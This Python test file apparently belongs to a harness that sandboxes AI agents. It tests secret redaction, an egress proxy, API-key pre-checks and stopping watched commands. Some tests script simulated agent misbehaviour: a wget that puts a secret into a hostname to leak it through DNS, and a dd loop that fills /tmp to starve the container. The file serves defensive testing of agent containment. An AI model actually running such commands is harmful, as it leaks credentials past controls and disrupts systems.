    tmp_path: Path, image: str, user: str | None, answer: str
) -> None:
    """The agent fills /tmp (a tmpfs: it counts against the memory limit and outlives its writer,
    which the kernel's OOM killer picks first) until no further command can start in its
    container. The workspace is still exported, and the checks run in a fresh container over it:
    a wrong answer scores 0, a right one 1."""
    fill = "(echo 1000 > /proc/self/oom_score_adj; exec dd if=/dev/zero of=/tmp/fill bs=64k) 2>/dev/null"
    command = f"echo {answer} > answer.txt; {fill}; echo {answer}"
    spec = _eval(
        tmp_path, image, command, limits={"memory": "64m"},
        scorers=[{"kind": "code_exec", "checks": ["sh /assay/checks/test.sh", "test ! -e /tmp/fill"]}],
        **({"user": user} if user else {}),
    )  # fmt: skip
    summary, items, scores = _run(spec, tmp_path / "store")
    (row,) = items.to_dicts()
    assert row["outcome"] == "completed", row["error"]
    (score,) = scores.to_dicts()
    assert score["outcome"] == "scored", score["error"]
    assert score["score"] == (1.0 if answer == "42" else 0.5)
    verifier = json.loads(row["sandbox"])["verifier"]
    assert verifier["container"] == "fresh"
    assert verifier["reason"].startswith("exporting the workspace failed:")
    assert json.loads(score["metadata"])["verifier"] == verifier
    assert leftovers(summary["run_id"]) == []


def test_an_attempt_user_with_assays_control_uid_is_refused(tmp_path: Path, image: str) -> None:
    from assay.errors import SpecError
    from assay.spec import ContainerTarget
    from assay.spec.dataset import Item
    from assay.targets.container.preflight import prepare_container

    target = ContainerTarget(kind="container", image=image, command=["true"], user="65533")
    item = Item(item_id="a", item_index=0, input="x", expected=None)
    with pytest.raises(
        SpecError, match=r"target\.user: user '65533' .* uid or gid 65533, which is Assay's own"
    ):
        prepare_container(target, [item], tmp_path, None)


NAME_SECRET = "tok-names-5e1d2b"


def test_secrets_in_file_and_folder_names_are_redacted_and_names_stay_unique(
    tmp_path: Path, image: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Files and folders the agent names after a secret are stored under the redacted name; one
    that would take a name already there (here: a file the agent named `…[REDACTED]…` itself)
    gets `~2`, and the attempt lists what it renamed."""
    monkeypatch.setenv("NAME_TOKEN", NAME_SECRET)
    command = (
        'echo one > "notes-$NAME_TOKEN.txt"; echo two > "notes-[REDACTED].txt"; '
        'mkdir -p "dir-$NAME_TOKEN/sub"; echo three > "dir-$NAME_TOKEN/sub/inner.txt"; '
        "echo 42 > answer.txt; ls; echo 42"
    )
    spec = _eval(
        tmp_path, image, command, secrets=["NAME_TOKEN"],
        scorers=[{"kind": "code_exec", "checks": ["ls"]}],
    )  # fmt: skip
    summary, items, scores = _run(spec, tmp_path / "store")
    (row,) = items.to_dicts()
    assert row["outcome"] == "completed", row["error"]
    # The checks ran over the real names in the live container; what they printed is redacted.
    (score,) = scores.to_dicts()
    assert json.loads(score["metadata"])["checks"][0]["stdout"].count("notes-[REDACTED].txt\n") == 2
    workspace = _artifact(tmp_path / "store", summary["run_id"], "a/0/workspace")
    stored = {p.relative_to(workspace).as_posix(): p for p in workspace.rglob("*")}
    assert sorted(stored) == [
        "answer.txt", "dir-[REDACTED]", "dir-[REDACTED]/sub", "dir-[REDACTED]/sub/inner.txt",
        "notes-[REDACTED].txt", "notes-[REDACTED]~2.txt", "readme.txt", "src", "src/code.txt",
    ]  # fmt: skip
    assert stored["notes-[REDACTED].txt"].read_text() == "two\n"  # the agent's own name is kept
    assert stored["notes-[REDACTED]~2.txt"].read_text() == "one\n"
    assert json.loads(row["sandbox"])["redacted_names"] == [
        "dir-[REDACTED]/sub/inner.txt",
        "notes-[REDACTED]~2.txt",
    ]
    diff = _artifact(tmp_path / "store", summary["run_id"], "a/0/diff.patch").read_text()
    assert "+++ b/notes-[REDACTED]~2.txt" in diff and "+++ b/dir-[REDACTED]/sub/inner.txt" in diff
    everything = _stored(tmp_path / "store")
    assert NAME_SECRET.encode() not in everything and b"notes-[REDACTED]~2.txt" in everything


def test_a_secret_in_a_denied_hostname_is_not_stored(
    tmp_path: Path, image: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """`<secret>.example` is a way out through DNS or a proxy: the proxy refuses it, and the
    attempt's record of what was refused keeps the hostname redacted."""
    monkeypatch.setenv("NAME_TOKEN", NAME_SECRET)
    command = 'wget -q -O- "http://$NAME_TOKEN.denied.test/" 2>&1; echo 42'
    spec = _eval(
        tmp_path, image, command, secrets=["NAME_TOKEN"], egress=["allowed.test"],
        egress_proxy_image=python_image(engine()),
    )  # fmt: skip
    summary, items, _ = _run(spec, tmp_path / "store")
    (row,) = items.to_dicts()
    assert row["outcome"] == "completed", row["error"]
    denied = json.loads(
        _artifact(tmp_path / "store", summary["run_id"], "a/0/egress-denials.json").read_text()
    )
    assert [entry["host"] for entry in denied] == ["[REDACTED].denied.test"]
    assert NAME_SECRET.encode() not in _stored(tmp_path / "store")


class _Provider:
    """A stand-in for the provider's model listing on 127.0.0.1: 200 for one key, 401 otherwise."""

    def __init__(self, good_key: str) -> None:
        from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
        from threading import Thread

        seen: list[tuple[str, str | None]] = []
        self.seen = seen

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                seen.append((self.path, self.headers.get("x-api-key")))
                ok = self.headers.get("x-api-key") == good_key
                self.send_response(200 if ok else 401)
                self.end_headers()
                self.wfile.write(b'{"data": []}' if ok else b'{"error": "invalid x-api-key"}')

            def log_message(self, *args: Any) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        self._thread = Thread(target=self.server.serve_forever, daemon=True)
        self._thread.start()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


def test_check_keys_tries_the_provider_key_before_any_container_starts(tmp_path: Path) -> None:
    stream = (Path(__file__).parents[1] / "data" / "agent_streams" / "claude_success.jsonl").read_bytes()
    image = busybox_with(
        "fake-claude",
        {"usr/local/bin/claude": (_FAKE_CLAUDE, 0o755), "opt/recorded/stream.jsonl": (stream, 0o644)},
    )
    spec = _eval(tmp_path, image, "unused", output="report")
    spec.write_text(
        spec.read_text().replace(
            "  command:\n  - sh\n  - -c\n  - unused\n",
            "  agent: {adapter: claude-code, model: claude-sonnet-4-20250514}\n",
        )
    )
    provider = _Provider(good_key=SECRET)
    try:
        env = {"ANTHROPIC_BASE_URL": provider.url, "ANTHROPIC_API_KEY": "sk-ant-revoked-0000"}
        refused = run_assay("run", str(spec), "--store", str(tmp_path / "store"), "--check-keys", env=env)
        assert refused.returncode == 2, refused.stderr
        assert (
            f"target.agent: ANTHROPIC_API_KEY (--check-keys, GET {provider.url}/v1/models): "
            "the provider refused the key (HTTP 401)"
        ) in refused.stderr
        assert "sk-ant-revoked-0000" not in refused.stderr
        assert not (tmp_path / "store" / "runs").exists(), "nothing written, nothing started"
        assert provider.seen == [("/v1/models", "sk-ant-revoked-0000")]

        env["ANTHROPIC_API_KEY"] = SECRET
        result = run_assay(
            "run", str(spec), "--store", str(tmp_path / "store"), "--check-keys", "--json", env=env
        )
        assert result.returncode == 0, result.stderr
        assert provider.seen[-1] == ("/v1/models", SECRET) and len(provider.seen) == 2
        # Without the flag, no request is made.
        assert run_assay("run", str(spec), "--store", str(tmp_path / "store"), env=env).returncode == 0
        assert len(provider.seen) == 2
        # `assay resume` takes the flag too: a key revoked since is refused before anything runs.
        run_id = json.loads(result.stdout)["run_id"]
        before = sorted(p.name for p in (tmp_path / "store").rglob("*.parquet"))
        env["ANTHROPIC_API_KEY"] = "sk-ant-revoked-0000"
        refused = run_assay("resume", run_id, "--store", str(tmp_path / "store"), "--check-keys", env=env)
        assert refused.returncode == 2, refused.stderr
        assert "the provider refused the key (HTTP 401)" in refused.stderr
        assert provider.seen[-1] == ("/v1/models", "sk-ant-revoked-0000") and len(provider.seen) == 3
        assert sorted(p.name for p in (tmp_path / "store").rglob("*.parquet")) == before
    finally:
        provider.close()
        for partition in (tmp_path / "store" / "runs").glob("run_id=*"):
            clean(partition.name.removeprefix("run_id="))


def test_a_watched_command_is_stopped_when_its_output_says_so() -> None:
    """`exec(watch=…)`: the first stdout piece the watcher refuses stops the command (every process
    of its user killed) at once, in an image without /bin/kill (Debian's minbase); the output so
    far comes back, `stopped` set. An agent that would retry a refused key for minutes ends so."""
    from assay.sandbox import Limits, Sandbox, inspect_image
    from assay.sandbox._docker import CONTROL_USER

    client = engine()
    facts = inspect_image(client, python_image(client), None)
    sandbox = Sandbox.create(client, facts, labels={"assay.run_id": "watch-test"}, limits=Limits())
    try:
        script = "echo working; sleep 1; echo refused; sleep 60 & sleep 60; echo never"
        seen: list[bytes] = []
        started = time.monotonic()
        result = sandbox.exec(
            ["sh", "-c", script], timeout=30, watch=lambda chunk: seen.append(chunk) or b"refused" in chunk
        )
        took = time.monotonic() - started
        owned = 'for p in /proc/[0-9]*; do [ "$(stat -c %u "$p")" = 1000 ] && echo "${p#/proc/}"; done; true'
        leftover = sandbox.exec(["sh", "-c", owned], user=CONTROL_USER, workdir="/")
    finally:
        sandbox.remove()
    assert result.stopped and not result.timed_out and result.exit_code == 137
    assert result.stdout == b"working\nrefused\n" and b"".join(seen) == result.stdout
    assert took < 10, f"stopping took {took:.1f} s"
    assert leftover.ok and leftover.stdout == b""  # the background `sleep` went too
